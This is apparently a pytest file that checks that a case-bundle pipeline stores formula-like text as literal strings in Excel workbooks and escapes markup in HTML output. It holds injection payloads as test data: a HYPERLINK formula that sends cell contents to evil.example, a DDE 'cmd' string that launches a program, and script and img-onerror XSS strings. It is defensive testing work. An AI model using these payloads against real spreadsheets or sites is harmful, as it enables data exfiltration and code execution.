"""Hostile submissions: formulas never execute in a workbook, markup never runs in HTML."""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from openpyxl.cell.cell import Cell

from pipeline.run import MeetingRun
from tests.pipeline.render.sample_run import Sample

Write = Callable[[MeetingRun], Path]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(path: Path, sheet: str) -> list[object]:
    ws = openpyxl.load_workbook(path)[sheet]
    return [c.value for row in ws.iter_rows(min_row=3) for c in row]


def _text_cells(path: Path, sheet: str) -> list[Cell]:
    ws = openpyxl.load_workbook(path)[sheet]
    return [c for row in ws.iter_rows(min_row=3) for c in row if isinstance(c.value, str)]


def _is_text_not_formula(cell: Cell) -> bool:
    """Stored as a string, and shown as typed: quote prefix set when it looks like a formula."""
    looks_like_formula = cell.value.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    return cell.data_type == "s" and (cell.quotePrefix or not looks_like_formula)



@pytest.mark.parametrize("payload", HOSTILE, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_formula_text_is_stored_as_text_in_every_workbook(
    sample: Sample, write_outputs: Write, payload: str
) -> None:
    sample.builder.add(
        "police",
        event_date=date(2026, 11, 2),
        summary=payload,
        decided_by=payload,
        legal_power=payload,
        rationale=payload,
    )
    out = write_outputs(sample.run)
    # XML turns a lone CR into LF when the file is read back
    shown = payload.replace("\r", "\n")
    for path in (out / "bundles" / "FAM-001.xlsx", out / "recipients" / "police" / "FAM-001.xlsx"):
        text = [c for c in _text_cells(path, "Chronology") if c.value == shown]
        rationale = [c for c in _text_cells(path, "Sharing basis") if c.value == shown]
        decided = [c for c in _text_cells(path, "Decisions") if c.value == shown]
        power = [c for c in _text_cells(path, "Sharing basis") if f"Power: {shown}" in c.value]
        assert text and rationale and decided and power, path
        for cell in (*text, *rationale, *decided):
            # the text exactly as the agency wrote it: no apostrophe added, never a formula
            assert cell.data_type == "s" and cell.quotePrefix, (path.name, cell.value)
        for sheet in ("Chronology", "Sharing basis", "Decisions"):
            assert all(_is_text_not_formula(c) for c in _text_cells(path, sheet))
    # JSON keeps the text as given (it is data, not a spreadsheet)
    doc = json.loads((out / "bundles" / "FAM-001.json").read_text())
    assert payload in [i["text"] for i in doc["items"]]


def test_hostile_subject_name_is_text_with_the_quote_prefix(
    sample: Sample, write_outputs: Write
) -> None:
    sample.builder.add("police", subject_name="=cmd()", summary="Seen on Elm Road at night.")
    out = write_outputs(sample.run)
    for sheet in ("Chronology", "Sharing basis"):
        cells = [c for c in _text_cells(out / "bundles" / "FAM-001.xlsx", sheet)
                 if c.value.startswith("=cmd()")]
        assert cells and all(c.quotePrefix and c.data_type == "s" for c in cells), sheet
        assert not any(c.value.startswith("'") for c in cells)


def test_control_characters_do_not_break_the_workbook(sample: Sample, write_outputs: Write) -> None:
    sample.builder.add("police", summary="Bell\x07 and escape\x1b in text.")
    out = write_outputs(sample.run)
    values = _cells(out / "bundles" / "FAM-001.xlsx", "Chronology")
    assert "Bell\ufffd and escape\ufffd in text." in values


def test_markup_is_escaped_in_html(sample: Sample, write_outputs: Write) -> None:
    sample.builder.add(
        "police",
        subject_name="<b>Tyler</b>",
        summary='<script>alert("x")</script><img src=x onerror=alert(1)> & "quotes"',
        rationale="</td></tr></table><script>bad()</script>",
    )
    out = write_outputs(sample.run)
    for path in (out / "bundles" / "FAM-001.html", out / "recipients" / "police" / "FAM-001.html"):
        html = path.read_text()
        assert "<script" not in html.lower()
        assert "<img" not in html  # only the escaped text "&lt;img src=x ...&gt;" remains
        assert "&lt;img src=x onerror=alert(1)&gt;" in html
        assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in html
        assert "&lt;b&gt;Tyler&lt;/b&gt;" in html
        assert "&amp; &#34;quotes&#34;" in html
